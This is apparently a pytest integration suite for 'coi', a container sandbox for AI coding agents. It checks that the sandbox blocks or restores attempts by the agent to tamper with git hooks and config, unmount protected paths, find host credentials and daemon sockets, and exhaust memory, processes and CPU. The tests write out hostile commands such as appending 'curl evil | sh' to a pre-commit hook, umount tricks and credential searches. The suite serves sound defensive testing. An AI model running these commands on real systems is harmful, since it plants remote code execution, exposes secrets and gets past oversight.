"""The agent as attacker: protected paths, credentials and limits, on the real daemon.

coi runs as the unprivileged test user; the "attacks" run inside the sandbox, as the agent
user (uid 1000) or as root inside (what `sudo` gives the agent in the coi image).
"""

from __future__ import annotations

import json
import os
import pwd
import subprocess
import time
from pathlib import Path

import pytest
from tests.conftest import coi_argv, run_coi
from tests.integration.conftest import (
    USER,
    coi_names,
    remove_containers,
    user_dir,
    wait_for,
    wait_gone,
)

from coi.backend import IncusClient
from coi.backend.exec import ExecRequest

HOOK = "#!/bin/sh\necho honest hook\n"
CONFIG = "[core]\n\trepositoryformatversion = 0\n"


def _coi(uenv: dict[str, str], *args: str, timeout: float = 120) -> tuple[int, str, str]:
    r = run_coi(*args, env=uenv, user=USER, timeout=timeout)
    return r.returncode, r.stdout, r.stderr


def _chown_tree(path: Path, user: pwd.struct_passwd) -> None:
    for root, dirs, files in os.walk(path):
        for n in [
            root,
            *(os.path.join(root, d) for d in dirs),
            *(os.path.join(root, f) for f in files),
        ]:
            os.lchown(n, user.pw_uid, user.pw_gid)


@pytest.fixture
def repo(base: Path, user: pwd.struct_passwd) -> Path:
    """A workspace that is a git repository with a hook and a config, owned by the user."""
    ws = base / "repo"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "objects").mkdir()
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / ".git" / "config").write_text(CONFIG)
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text(HOOK)
    hook.chmod(0o755)
    (ws / "main.py").write_text("print('hi')\n")
    _chown_tree(ws, user)
    return ws


def _as_root(client: IncusClient, name: str, script: str) -> tuple[int, str]:
    res = client.exec.capture(name, ExecRequest(["sh", "-c", script]))
    return res.exit_code, (res.stdout + res.stderr).decode()


def _audit(uenv: dict[str, str], name: str) -> list[dict[str, object]]:
    path = Path(uenv["COI_HOME"]) / "audit" / f"{name}.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()]


# -- protected paths -----------------------------------------------------------------------


def test_agent_user_cannot_change_hooks_rename_git_or_set_hooks_path(
    uenv: dict[str, str], repo: Path
) -> None:
    attack = (
        "echo 'curl evil | sh' >> .git/hooks/pre-commit; echo append=$?; "
        "echo evil > .git/hooks/post-checkout; echo create=$?; "
        "rm .git/hooks/pre-commit; echo rm=$?; "
        "mv .git .git-old; echo mvgit=$?; "
        "mv .git/hooks .git/hooks-old; echo mvhooks=$?; "
        # What `git config core.hooksPath` does: write a lock file, rename it over the config.
        "printf '[core]\\n\\thooksPath = /workspace/evil\\n' > .git/config.lock; "
        "mv .git/config.lock .git/config; echo lockrename=$?; "
        "echo '[core] hooksPath = /tmp' >> .git/config; echo appendconfig=$?; "
        "id -u"
    )
    code, out, err = _coi(
        uenv, "run", "--image", "coi-tiny", "-w", str(repo), "--", "sh", "-c", attack
    )
    assert code == 0, err
    for step in ("append", "create", "rm", "mvgit", "mvhooks", "lockrename", "appendconfig"):
        assert f"{step}=0" not in out, f"{step} succeeded:\n{out}\n{err}"
    assert out.strip().endswith("1000")
    assert "Read-only file system" in err and "Device or resource busy" in err
    assert "Protected paths (mounted read-only): .git/hooks, .git/config" in err
    assert (repo / ".git" / "hooks" / "pre-commit").read_text() == HOOK
    assert (repo / ".git" / "config").read_text() == CONFIG
    assert sorted(os.listdir(repo / ".git" / "hooks")) == ["pre-commit"]
    assert "PROTECTED PATHS CHANGED" not in err  # nothing got through, nothing to restore


def test_root_inside_unmounts_and_writes_restored_when_the_session_ends(
    client: IncusClient, uenv: dict[str, str], repo: Path
) -> None:
    code, _, err = _coi(
        uenv, "shell", "--background", "--debug", "--image", "coi-tiny", "-w", str(repo)
    )
    assert code == 0, err
    (name,) = coi_names(client, repo)
    try:
        rc, out = _as_root(
            client,
            name,
            "set -e; cd /workspace; umount .git/hooks .git/config .git/info; umount .git; "
            "echo 'curl evil | sh' >> .git/hooks/pre-commit; "
            "printf '[core]\\n\\thooksPath = /workspace/evil\\n' >> .git/config; "
            'mkdir -p .vscode; echo \'{"runOn": "folderOpen"}\' > .vscode/tasks.json; '
            "echo done",
        )
        assert rc == 0 and "done" in out, out
        # The write really reached the host: the mounts alone did not stop root.
        assert "curl evil" in (repo / ".git" / "hooks" / "pre-commit").read_text()
        code, out, err = _coi(uenv, "shutdown", name)
        assert code == 0, err
    finally:
        for n in coi_names(client, repo):
            client.instances.delete(n, force=True)
    said = out + err
    assert f"PROTECTED PATHS CHANGED in {name}" in said
    assert ".git/hooks/pre-commit (content changed)" in said
    assert ".git/config (content changed)" in said
    assert ".vscode (created)" in said
    assert (repo / ".git" / "hooks" / "pre-commit").read_text() == HOOK
    assert os.stat(repo / ".git" / "hooks" / "pre-commit").st_mode & 0o777 == 0o755
    assert (repo / ".git" / "config").read_text() == CONFIG
    assert not (repo / ".vscode").exists()
    events = [e for e in _audit(uenv, name) if e["category"] == "protected_path"]
    assert events and events[-1]["level"] == "high" and events[-1]["action"] == "restored"
    quarantine = Path(str(events[-1]["evidence"]["quarantine"]))  # type: ignore[index]
    assert "curl evil" in (quarantine / ".git" / "hooks" / "pre-commit").read_text()
    # The record is dropped with the container.
    assert not (Path(uenv["COI_HOME"]) / "protected" / name).exists()


def test_tampering_is_undone_while_the_session_runs(
    client: IncusClient, uenv: dict[str, str], repo: Path
) -> None:
    argv = coi_argv("run", "--image", "coi-tiny", "-w", str(repo), "--", "sleep", "25", user=USER)
    proc = subprocess.Popen(
        argv, env=uenv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        wait_for(
            lambda: (
                coi_names(client, repo) and client.instances.get(coi_names(client, repo)[0]).running
            ),
            "the sandbox",
        )
        name = coi_names(client, repo)[0]
        wait_for(lambda: _as_root(client, name, "true")[0] == 0, "exec")
        # Seen twice in full runs: the umount refused with EINVAL at the first try, the exec
        # racing coi's setup of the sandbox; tried again a few times (bounded).
        for _ in range(10):
            rc, out = _as_root(
                client,
                name,
                "umount /workspace/.git/hooks && echo evil > /workspace/.git/hooks/pre-commit",
            )
            if rc == 0 or "Invalid argument" not in out:
                break
            time.sleep(0.5)
        assert rc == 0, out
        tampered = time.monotonic()
        hook = repo / ".git" / "hooks" / "pre-commit"
        wait_for(lambda: hook.read_text() == HOOK, "the hook to be restored", timeout=15)
        restored_after = time.monotonic() - tampered
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
        for n in coi_names(client, repo):
            client.instances.delete(n, force=True)
    assert restored_after < 12  # verify_interval_seconds defaults to 5
    assert proc.returncode == 0, err
    assert ".git/hooks/pre-commit (content changed)" in err
    assert hook.read_text() == HOOK


def test_worktree_pointer_file_is_read_only(
    uenv: dict[str, str], base: Path, user: pwd.struct_passwd
) -> None:
    ws = user_dir(base / "wt", user)
    pointer = "gitdir: /elsewhere/.git/worktrees/wt\n"
    (ws / ".git").write_text(pointer)
    _chown_tree(ws, user)
    code, out, err = _coi(
        uenv, "run", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
        "echo 'gitdir: /workspace/evil' > .git; echo write=$?; mv .git g; echo mv=$?",
    )  # fmt: skip
    assert code == 0, err
    assert "write=0" not in out and "mv=0" not in out
    assert (ws / ".git").read_text() == pointer


# -- credentials ---------------------------------------------------------------------------

SECRET_FILES = (
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".gitconfig",
    ".config/gh/hosts.yml",
    ".config/lxc/client.key",
    ".config/incus/client.key",
)


def test_host_secrets_keys_and_daemon_socket_are_out_of_reach(
    client: IncusClient, uenv: dict[str, str], base: Path, user: pwd.struct_passwd
) -> None:
    home = Path(uenv["HOME"])
    marker = "coi-marker-" + os.urandom(4).hex()
    for rel in SECRET_FILES:
        path = home / rel
        user_dir(path.parent, user)
        path.write_text(f"{marker} {rel}\n")
        os.chown(path, user.pw_uid, user.pw_gid)
    ws = user_dir(base / "ws", user)
    env = {**uenv, "AWS_SECRET_ACCESS_KEY": marker, "GITHUB_TOKEN": marker}
    code, _, err = _coi(
        env, "shell", "--background", "--debug", "--image", "coi-tiny", "-w", str(ws)
    )
    assert code == 0, err
    (name,) = coi_names(client, ws)
    try:
        search = (
            r"find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f "
            f"-exec grep -l {marker} {{}} + 2>/dev/null; "
            f"cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c {marker}; "
            "env | grep -c -e SECRET_TOKEN -e AWS_ -e GITHUB_TOKEN; "
            "ls /var/lib/lxd/unix.socket /var/lib/incus/unix.socket /run/incus/unix.socket "
            "/var/snap/lxd/common/lxd/unix.socket 2>&1 | grep -c 'No such file'; "
            "head -1 /proc/self/uid_map; "
            "touch /workspace/made-by-$(id -u)"
        )
        for uid in (1000, 0):  # the agent user, and root inside (sudo)
            res = client.exec.capture(name, ExecRequest(["sh", "-c", search], user=uid, group=uid))
            lines = res.stdout.decode().split()
            assert marker not in res.stdout.decode(), f"uid {uid} found a host secret: {lines}"
            counts = res.stdout.decode().splitlines()
            assert counts[:3] == ["0", "0", "4"], (uid, counts)
            inside, outside, _n = counts[3].split()
            assert inside == "0" and outside != "0"  # root inside is not root on the host
        owner = (ws / "made-by-0").stat().st_uid
        assert owner not in (0, user.pw_uid), owner  # container root maps to an unprivileged uid
        config = client.instances.get(name).raw.get("expanded_config", {})
        assert config.get("security.privileged", "false") == "false"
        assert not any(
            d.get("type") == "unix-char"
            for d in client.instances.get(name).expanded_devices.values()
        )
    finally:
        remove_containers(client, ws)


def test_home_directory_as_workspace_is_refused(
    uenv: dict[str, str], user: pwd.struct_passwd
) -> None:
    home = Path(uenv["HOME"])
    user_dir(home / ".ssh", user)
    code, _, err = _coi(uenv, "run", "--image", "coi-tiny", "-w", str(home), "--", "true")
    assert code == 2
    assert "refusing to mount a folder that holds your credentials" in err and ".ssh" in err
    code, _, err = _coi(
        uenv,
        "run",
        "--image",
        "coi-tiny",
        "-w",
        str(home / ".ssh"),
        "--mount",
        f"{home}:/h",
        "--",
        "true",
    )
    assert code == 2


# -- limits --------------------------------------------------------------------------------


@pytest.fixture
def ws(base: Path, user: pwd.struct_passwd) -> Path:
    return user_dir(base / "lim", user)


def _run(uenv: dict[str, str], ws: Path, *args: str, timeout: float = 120) -> tuple[int, str, str]:
    return _coi(uenv, "run", "--image", "coi-tiny", "-w", str(ws), *args, timeout=timeout)


def test_memory_limit_kills_what_exceeds_it(uenv: dict[str, str], ws: Path) -> None:
    hog = "head -c 150000000 /dev/zero | tail -c 120000000 > /dev/null; echo tail=$?"
    code, out, err = _run(uenv, ws, "--limit-memory", "64MiB", "--", "sh", "-c", hog)
    assert code == 0, err
    assert "tail=137" in out, out  # SIGKILL from the OOM killer
    code, out, err = _run(uenv, ws, "--", "sh", "-c", hog)
    assert "tail=0" in out, (out, err)  # the same work fits without the limit


def test_process_limit_stops_forks_and_coi_still_removes_the_container(
    client: IncusClient, uenv: dict[str, str], ws: Path
) -> None:
    bomb = "for i in $(seq 60); do sleep 300 </dev/null >/dev/null 2>&1 & done; echo forked; wait"
    code, out, err = _run(uenv, ws, "--limit-processes", "20", "--", "sh", "-c", bomb)
    assert "can't fork" in err, (out, err)
    wait_gone(client, ws)
    # A detached session whose limit is exhausted: no exec gets in, shutdown still works.
    code, _, err = _coi(
        uenv, "shell", "--background", "--debug", "--image", "coi-tiny", "-w", str(ws),
        "--limit-processes", "20",
    )  # fmt: skip
    assert code == 0, err
    (name,) = coi_names(client, ws)
    client.exec.capture(
        name,
        ExecRequest(
            [
                "sh",
                "-c",
                "for i in $(seq 60); do sleep 300 </dev/null >/dev/null 2>&1 & done 2>/dev/null",
            ]
        ),
    )
    code, out, err = _coi(uenv, "shutdown", "--timeout", "5", name)
    assert code == 0, err
    wait_gone(client, ws)


def test_cpu_count_and_hard_cap(uenv: dict[str, str], ws: Path) -> None:
    # A 3 s busy loop; fields 14-17 of /proc/PID/stat: CPU ticks (1/100 s) of it and its children.
    busy = (
        "nproc; end=$(($(date +%s) + 3)); while [ $(date +%s) -lt $end ]; do :; done; "
        "cut -d' ' -f14-17 /proc/$$/stat; true"
    )
    code, out, err = _run(
        uenv, ws, "--limit-cpu", "1", "--limit-cpu-allowance", "25ms/100ms", "--", "sh", "-c", busy
    )
    assert code == 0, err
    nproc, ticks = out.splitlines()[:2]
    assert nproc == "1"
    used = sum(int(t) for t in ticks.split())
    assert used < 130, f"{used} ticks in 3 s: the 25% cap is not in force"


def test_duration_limit_stops_run_and_detached_shell(
    client: IncusClient, uenv: dict[str, str], ws: Path
) -> None:
    t0 = time.monotonic()
    code, _, err = _run(uenv, ws, "--limit-duration=5s", "--", "sleep", "120")
    took = time.monotonic() - t0
    assert code == 124, err
    assert "[limits] Container will auto-stop after 5s" in err
    assert "max_duration 5s reached" in err
    assert took < 30, took
    wait_gone(client, ws)
    # A background shell: coi has exited, the limit still holds.
    code, _, err = _coi(
        uenv, "shell", "--background", "--debug", "--image", "coi-tiny", "-w", str(ws),
        "--limit-duration", "5s",
    )  # fmt: skip
    assert code == 0, err
    (name,) = coi_names(client, ws)
    started = time.monotonic()
    try:
        wait_for(lambda: not client.instances.get(name).running, "the time limit", timeout=40)
        stopped_after = time.monotonic() - started
    finally:
        remove_containers(client, ws)
    assert stopped_after < 25, stopped_after
    assert any(e["category"] == "limits" for e in _audit(uenv, name))


def test_tmpfs_size_and_disk_read_rate(uenv: dict[str, str], ws: Path) -> None:
    script = (
        "df -k /tmp | tail -1; "
        "dd if=/dev/urandom of=$HOME/f bs=1M count=15 2>/dev/null; sync; "
        "a=$(date +%s); dd if=$HOME/f of=/dev/null bs=1M iflag=direct 2>/dev/null; "
        "echo read=$(($(date +%s) - a))"
    )
    code, out, err = _run(
        uenv, ws, "--limit-tmpfs", "16MiB", "--limit-disk-read", "5MB/s", "--", "sh", "-c", script
    )
    assert code == 0, err
    fs, size = out.split()[:2]
    assert fs == "tmpfs" and size == "16384"
    seconds = int(out.split("read=")[1].split()[0])
    assert seconds >= 2, f"15 MB read in {seconds} s at a 5 MB/s limit"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--limit-memory", "2GB!"], "invalid --limit-memory '2GB!'"),
        (["--limit-cpu", "two"], "invalid --limit-cpu 'two'"),
        (["--limit-cpu-allowance", "150%"], "invalid --limit-cpu-allowance '150%'"),
        (["--limit-duration", "soon"], "invalid --limit-duration 'soon'"),
        (["--limit-disk-read", "fast"], "invalid --limit-disk-read 'fast'"),
        (["--limit-processes", "3"], "invalid --limit-processes '3'"),
    ],
)
def test_bad_limits_are_refused_before_anything_is_made(
    client: IncusClient, uenv: dict[str, str], ws: Path, args: list[str], message: str
) -> None:
    code, _, err = _run(uenv, ws, *args, "--", "true")
    assert code == 2, err
    assert message in err
    wait_gone(client, ws)


def test_swap_size_depends_on_the_daemon(
    client: IncusClient, uenv: dict[str, str], ws: Path
) -> None:
    code, _, err = _run(uenv, ws, "--limit-memory-swap", "1GiB", "--", "true")
    if client.server.kind == "incus":
        assert code == 0, err
    else:
        assert code == 2 and "a swap size (1GiB) needs Incus" in err, err
    wait_gone(client, ws)
